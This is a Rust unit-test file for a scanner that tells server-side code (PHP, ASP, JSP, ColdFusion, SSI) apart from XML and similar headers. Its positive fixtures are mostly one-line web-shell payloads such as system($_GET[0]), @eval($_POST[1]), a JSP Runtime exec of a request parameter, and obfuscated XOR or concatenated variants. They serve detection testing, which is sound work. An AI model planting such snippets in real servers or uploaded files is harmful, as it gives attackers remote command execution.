//! What is code, and what is not.

use super::super::code::{CodeStart, WINDOW_BYTES, at, begins_file};
use super::*;

fn found(text: &[u8]) -> CodeStart {
    at(text, false, &mut 0)
}

#[test]
fn what_servers_run_is_code() {
    for code in [
        &b"<?php\0 system(1)"[..],
        b"<?PHP\n",
        b"<?\0system($_GET[0]);?>",
        b"<?if(1)system($_GET[0]);?>",
        b"<?#\nsystem($_GET[0]);?>",
        b"<?/**/system($_GET[0]);?>",
        b"<?// x\rsystem($_GET[0]);?>",
        b"<?;system($_GET[0]);?>",
        b"<?(system)($_GET[0]);?>",
        b"<?shell_exec($_GET[0]);?>",
        b"<?\"system\"($_GET[0]);?>",
        b"<?\\system($_GET[0]);?>",
        b"<?die(system($_GET[0]));?>",
        b"<?die(`$_GET[0]`);?>",
        b"<?return system($_GET[0]);?>",
        b"<?popen($_GET[0],\"r\");?>",
        b"<?call_user_func($_GET[0]);?>",
        b"<?file_put_contents(\"a.php\",$_POST[0]);?>",
        b"<?while(1)system($_GET[0]);?>",
        b"<?foreach($_GET as $a)system($a);?>",
        b"<?for($i=0;$i<9;$i++){system($a{0});}?>",
        b"<?!system($_GET[0]);?>",
        b"<?-system($_GET[0]);?>",
        b"<?=`$_GET[0]`?>\xff",
        b"<?=$x",
        b"<?@eval($_POST[1]);?>",
        b"<?\n$a=\"sys\".\"tem\";$a($_GET[0]);#\xff\x01",
        b"<?`id`;/* \xff\xff",
        b"<?const A=\"x\";system(A);?>",
        b"<?xml:system($_GET[0]);?>",
        b"<?print a==\"b\".system($_GET[0])?>",
        b"<?function f(string $x,?int $y=null):?int{return 1;}ff('a',[1,2]);?>",
        b"<?class A{public string $x=1;function f(){echo 1;}}?>",
        b"<?try{ff();}catch(E $e){}finally{}?>",
        b"<?$_=\"\x01\x02\"^\"\xff\x04\";$_($x);?>",
        b"<?[$a,'b']();?>",
        b"<?(new A)->bb(1)?>",
        b"<?A::bb($c);?>",
        b"<?$f=fn(int $x)=>$x**2;$f(2);?>",
        b"<?echo <<<X\n{$_GET[0]}\nX;?>",
        b"<?\xc3\xa9:system($_GET[0]);?>",
        b"<?system(1);__halt_compiler();\xff((",
        b"<?if(1){ff()?>x<?}?>",
        b"<?include 'http://e/x';?>",
        b"<?hh system(1);",
        b"<%eval request(\"c\")%>",
        b"<%\0eval request(\"c\")%>",
        b"<%\xff eval(1)%>",
        b"<%#eval%>",
        b"<%response.write(1)%>",
        b"<%Run(x)%>\xff",
        b"<% ' a comment\nexecute x%>",
        b"<%@ page import=\"java.util.*\" %>",
        b"<%@ language=vbscript%>",
        b"<%=Runtime.getRuntime().exec(request.getParameter(\"c\"))%>",
        b"<%! int run(String x) { return 1; } %>",
        b"<SCRIPT>",
        b"<JSP:scriptlet>",
        b"<cfexecute name=x>",
        b"<cfset x=1>",
        b"<!--#exec cmd",
        b"<!-- #include",
    ] {
        assert_eq!(found(code), CodeStart::Code, "{}", code.escape_ascii());
    }
}

#[test]
fn other_bytes_are_no_code() {
    for text in [
        &b"<?xpacket begin='\xef\xbb\xbf' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta/>"[..],
        b"<?xpacket end='w'?>",
        b"<?xpacket end=\"w\"?>\0\0",
        b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone='yes'?><a/>",
        b"<?xml-stylesheet type=\"text/xsl\" href=\"a.xsl\"?>",
        b"<?adobe-xap-filters esc=\"CRLF\"?>",
        b"<?mso-application progid=\"Word.Document\"?>",
        b"<?xml?>",
        b"<?printx>",
        b"<?echox>",
        b"<?1?>",
        b"<?ab;cd?>",
        b"<?foo(?>",
        b"<?f(])?>",
        b"<?a b();?>",
        b"<?'a'f();?>",
        b"<?$1();?>",
        b"<?5a();?>",
        b"<?=5?>",
        b"<?=\"a b\"?>",
        b"<?",
        b"<%",
        b"<?#",
        b"<%abcdefghijklmnopqrstuv>",
        b"<%a%>",
        b"<%f(x)%>",
        b"<%fOObaR(x)%>",
        b"<%eval(x)",
        b"<?`Q;x`?>",
        b"<%foo(x]%>",
        b"<%-- a comment --%>",
        b"<!--x",
        b"<!-- # 1",
        b"<cf",
        b"<x",
        b"<",
    ] {
        assert_eq!(found(text), CodeStart::Nothing, "{}", text.escape_ascii());
    }
}

#[test]
fn code_that_goes_on_is_code_unless_it_is_empty() {
    let of = |first: &str, then: &str| {
        let text = [first, &then.repeat(WINDOW_BYTES)].concat();
        at(&text.as_bytes()[..WINDOW_BYTES], true, &mut 0)
    };
    assert_eq!(of("<?", "1;"), CodeStart::Comment(Language::Php, Comment::Statements, false));
    assert_eq!(of("<?ff()", ";"), CodeStart::Code);
    assert_eq!(of("<%", "x=1:"), CodeStart::Comment(Language::Asp, Comment::Statements, false));
    assert_eq!(of("<%eval ", "x=1:"), CodeStart::Code);
    assert_eq!(of("<?", "<?a"), CodeStart::Nothing);
    assert_eq!(of("<?", " "), CodeStart::Comment(Language::Php, Comment::Blanks, false));
    assert_eq!(of("<?a", "a"), CodeStart::Comment(Language::Php, Comment::Blanks, false));
    assert_eq!(of("<? #", "a"), CodeStart::Comment(Language::Php, Comment::Line, false));
    assert_eq!(of("<?/*", "a"), CodeStart::Comment(Language::Php, Comment::Block, false));
    assert_eq!(of("<%'", "a"), CodeStart::Comment(Language::Asp, Comment::Line, false));
    assert_eq!(of("<?f0(); #", "a"), CodeStart::Comment(Language::Php, Comment::Line, true));
}

#[test]
fn files_of_programs_are_told_from_documents() {
    for (start, expected) in [
        (&b"<?php f();"[..], true),
        (b"<?if(1)", true),
        (b"<?= 1 ?>", true),
        (b"<%@ page", true),
        (b"<script>", true),
        (b"<!--#exec", true),
        (b"<?xml version=\"1.0\"?>", false),
        (b"<?xpacket begin='x'?>", false),
        (b"<?a?>", false),
        (b"<!DOCTYPE html>", false),
        (b"<!-- a -->", false),
        (b"<svg>", false),
        (b"", false),
    ] {
        assert_eq!(begins_file(start), expected, "{}", start.escape_ascii());
    }
}
